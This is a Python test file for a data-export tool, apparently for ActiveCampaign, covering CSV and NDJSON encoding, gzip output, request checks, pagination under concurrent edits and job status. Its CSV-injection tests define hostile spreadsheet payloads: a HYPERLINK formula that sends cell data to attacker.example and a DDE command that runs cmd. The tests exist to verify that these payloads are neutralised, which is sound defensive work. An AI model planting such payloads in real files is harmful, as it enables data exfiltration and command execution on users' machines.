"""The parts of full exports that need no network: file encoding and gzip members, start-request checks,
the offset walk under edits made while it runs, incremental checks, and what callers see of a job."""

import csv
import datetime as dt
import gzip
import io
import json
import threading

import pytest
from acexport.errors import ApiError, BadRequestError
from acexport.jobs import files as job_files
from acexport.jobs import spec as job_spec
from acexport.jobs import view as job_view
from acexport.jobs.walk import updated_since

from tests.fakes import walk_ahead, walk_ids

# ---- the file ---------------------------------------------------------------------------------------


def test_ndjson_is_one_object_per_line_as_ac_sent_it():
    records = [{"id": "1", "name": "Café Olé", "links": {"a": "b"}, "n": None}, {"id": "2", "ok": True}]
    data, columns = job_files.encode("ndjson", records, None)
    assert columns is None
    assert [json.loads(line) for line in data.decode().splitlines()] == records
    assert "Café" in data.decode()


def test_csv_header_from_the_first_records_nested_as_json_and_late_keys_in_extra():
    first = [{"id": "1", "tags": ["a", "b"], "meta": {"x": 1}, "flag": True, "none": None}]
    data, columns = job_files.encode("csv", first, None)
    more, same = job_files.encode("csv", [{"id": "2", "late": {"k": "v"}, "flag": False}], columns)
    assert same == columns == ["id", "tags", "meta", "flag", "none"]
    rows = list(csv.reader(io.StringIO((data + more).decode())))
    assert rows[0] == ["id", "tags", "meta", "flag", "none", "_extra"]
    assert rows[1] == ["1", '["a","b"]', '{"x":1}', "true", "", ""]
    assert rows[2] == ["2", "", "", "false", "", '{"late":{"k":"v"}}']
    assert job_files.encode("csv", [], None) == (b"", None)      # no records yet: no header yet


HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&C2,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", [HYPERLINK, DDE, "+1+cmd", "-2+3", "\t=1", "\r=1", "  =1+1", "\u00a0@x"])
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(value):
    data, _ = job_files.encode("csv", [{"id": "1", "firstName": value, "n": 5}], None)
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert rows[1] == ["1", "'" + value, "5", ""]


@pytest.mark.parametrize("value", ["-12.5", "+15551234567", "-3", "a=b", "x@example.com", "", "0"])
def test_csv_cells_that_cannot_run_are_as_ac_sent_them(value):
    data, _ = job_files.encode("csv", [{"id": "1", "v": value}], None)
    assert list(csv.reader(io.StringIO(data.decode(), newline="")))[1] == ["1", value, ""]


def test_csv_header_cells_and_late_keys_are_inert_too_and_ndjson_is_untouched():
    record = {"=cmd": "x", "id": "1", "first": HYPERLINK}
    data, columns = job_files.encode("csv", [record], None)
    more, _ = job_files.encode("csv", [{"id": "2", "@late": DDE}], columns)
    rows = list(csv.reader(io.StringIO((data + more).decode(), newline="")))
    assert rows[0] == ["'=cmd", "id", "first", "_extra"] and columns == ["=cmd", "id", "first"]
    assert json.loads(rows[2][-1]) == {"@late": DDE}      # inside a JSON object: the cell starts with {
    ndjson, _ = job_files.encode("ndjson", [record], None)
    assert json.loads(ndjson) == record                   # NDJSON: exactly as AC sent it


def test_gzip_members_one_after_another_read_as_one_file():
    out = b""
    for chunk in (b"first\n", b"", b"second\n"):
        member = job_files.GzipMember()
        out += member.write(chunk) + member.close()
    assert gzip.decompress(out) == b"first\nsecond\n"
    assert gzip.decompress(job_files.GzipMember().close()) == b""   # an empty export is a valid file


# ---- start requests ---------------------------------------------------------------------------------


def test_defaults_and_normalisation():
    spec = job_spec.parse("contacts", {})
    assert (spec.resource.name, spec.format, spec.filters, spec.updated_after) == ("contacts", "ndjson", (), None)
    spec = job_spec.parse("deals", {"format": "CSV", "filters": {"status": 1, "title": " Big "},
                                        "updated_after": "2025-03-04T10:00:00+02:00"})
    assert spec.format == "csv" and spec.filters == (("status", "1"), ("title", "Big"))
    assert spec.updated_after == "2025-03-04T08:00:00Z"
    assert job_spec.parse("accounts", {"updated_after": "2025-03-04T10:00:00"}).updated_after == \
        "2025-03-04T10:00:00Z"                                  # no offset: UTC


@pytest.mark.parametrize(("resource", "options", "error", "status"), [
    ("widgets", {}, job_spec.UnknownResourceError, 404),
    ("contacts", [], BadRequestError, 400),
    ("contacts", {"format": 3}, BadRequestError, 400),
    ("contacts", {"filters": {"email": "x" * 257}}, BadRequestError, 400),
    ("contacts", {"filters": {"email": " "}}, BadRequestError, 400),
    ("contacts", {"filters": {"listid": "abc"}}, BadRequestError, 400),
    ("deals", {"filters": {"minimum_value": "-1"}}, BadRequestError, 400),
    ("contacts", {"updated_after": 20250101}, BadRequestError, 400),
    ("contacts", {"limit": 10}, BadRequestError, 400),
])
def test_refusals(resource, options, error, status):
    with pytest.raises(error) as caught:
        job_spec.parse(resource, options)
    assert isinstance(caught.value, ApiError) and caught.value.status == status


# ---- the offset walk (deals, accounts) ----------------------------------------------------------------


class FakeAC:
    """AC's /accounts with limit/offset over a list that a test may edit between calls."""

    host, key_fingerprint = "fake.api-us1.com", "k"

    def __init__(self, count: int):
        self.accounts = [{"id": str(n), "name": f"A{n}"} for n in range(1, count + 1)]
        self.calls = 0
        self.before_call = lambda n: None
        self.lock = threading.Lock()      # pages requested ahead come from several threads
        self.paths: list[str] = []        # reference data too (/accountCustomFieldMeta), unless cached already

    def get(self, path, params):
        with self.lock:
            self.before_call(self.calls)
            self.calls += 1
            self.paths.append(path)
            query = dict(params)
            offset, limit = int(query["offset"]), int(query["limit"])
            return {"accounts": self.accounts[offset:offset + limit], "meta": {"total": str(len(self.accounts))}}


def walk_all(client) -> list[str]:
    return walk_ids(client, "accounts")


def test_offset_walk_reads_each_account_once():
    client = FakeAC(250)
    assert walk_all(client) == [str(n) for n in range(1, 251)]


def test_deletions_before_the_cursor_neither_skip_nor_repeat_records():
    client = FakeAC(350)

    def delete_some(call):
        if call == 2:      # after two pages: accounts already written disappear, so the rest slides back
            del client.accounts[10:40]
    client.before_call = delete_some
    assert walk_all(client) == [str(n) for n in range(1, 351)]   # 11..40 were written before they went


def test_inserts_before_the_cursor_are_not_written_twice():
    client = FakeAC(300)

    def insert_some(call):
        if call == 2:
            client.accounts[5:5] = [{"id": f"{9000 + n}", "name": "late"} for n in range(3)]
    client.before_call = insert_some
    seen = walk_all(client)
    assert seen[:300] == [str(n) for n in range(1, 301)] and len(seen) == len(set(seen))


def test_accounts_walked_with_pages_ahead_once_through_deletions_and_inserts():
    client = FakeAC(900)
    seen, walk = walk_ahead(client, "accounts", in_flight=5)
    assert seen == [str(n) for n in range(1, 901)] and walk.wasted == 0 and client.paths.count("/accounts") == 10
    client = FakeAC(900)

    def edit(call):
        if call == 1:
            del client.accounts[10:40]                 # written already: the pages ahead all read after it
        if call == 8:
            client.accounts[5:5] = [{"id": f"{9000 + n}", "name": "late"} for n in range(3)]
    client.before_call = edit
    seen, walk = walk_ahead(client, "accounts", in_flight=5)
    assert seen[:900] == [str(n) for n in range(1, 901)] and len(seen) == len(set(seen))
    assert walk.wasted <= 2 * 4                         # at most the pages ahead, twice


def test_updated_since_a_day_or_an_instant():
    record = {"updatedTimestamp": "2025-05-01T23:30:00-05:00"}            # 2025-05-02T04:30Z
    assert updated_since(record, "updatedTimestamp", "2025-05-01")       # its own day, as AC compares
    assert not updated_since(record, "updatedTimestamp", "2025-05-02")
    assert updated_since(record, "updatedTimestamp", "2025-05-02T04:30:00Z")
    assert not updated_since(record, "updatedTimestamp", "2025-05-02T04:30:01Z")
    assert updated_since({}, "updatedTimestamp", "2030-01-01")            # no timestamp: kept


# ---- what callers see ---------------------------------------------------------------------------------


def doc(**fields) -> dict:
    now = dt.datetime.now(dt.UTC)
    return {"_id": "j" * 32, "resource": "contacts", "format": "ndjson", "created_at": now, **fields}


def test_running_job_percent_and_time_left():
    started = dt.datetime.now(dt.UTC) - dt.timedelta(seconds=10)
    view = job_view.describe(doc(status="running", started_at=started,
                                 progress={"read": 250, "written": 240, "total": 1000}))
    assert view["percent"] == 25.0 and 28 <= view["eta_seconds"] <= 32
    assert view["records_written"] == 240 and view["records_read"] == 250 and view["total_expected"] == 1000


def test_queued_failed_and_stored_text_dates():
    assert job_view.describe(doc(status="queued"))["percent"] == 0.0
    failed = job_view.describe(doc(status="failed", finished_at="2025-01-02 03:04:05.678000",
                                   error={"message": "Invalid base_url or api_key", "reconnect": 1}))
    assert failed["error"] == {"message": "Invalid base_url or api_key", "reconnect": True}
    assert failed["finished_at"] == "2025-01-02T03:04:05Z" and failed["file"] is None


def test_the_fake_is_an_ac_reader():
    """It stands where the walk takes an acexport.ports.ACReader (the AC client in production)."""
    from acexport.ports import ACReader

    assert isinstance(FakeAC(1), ACReader)
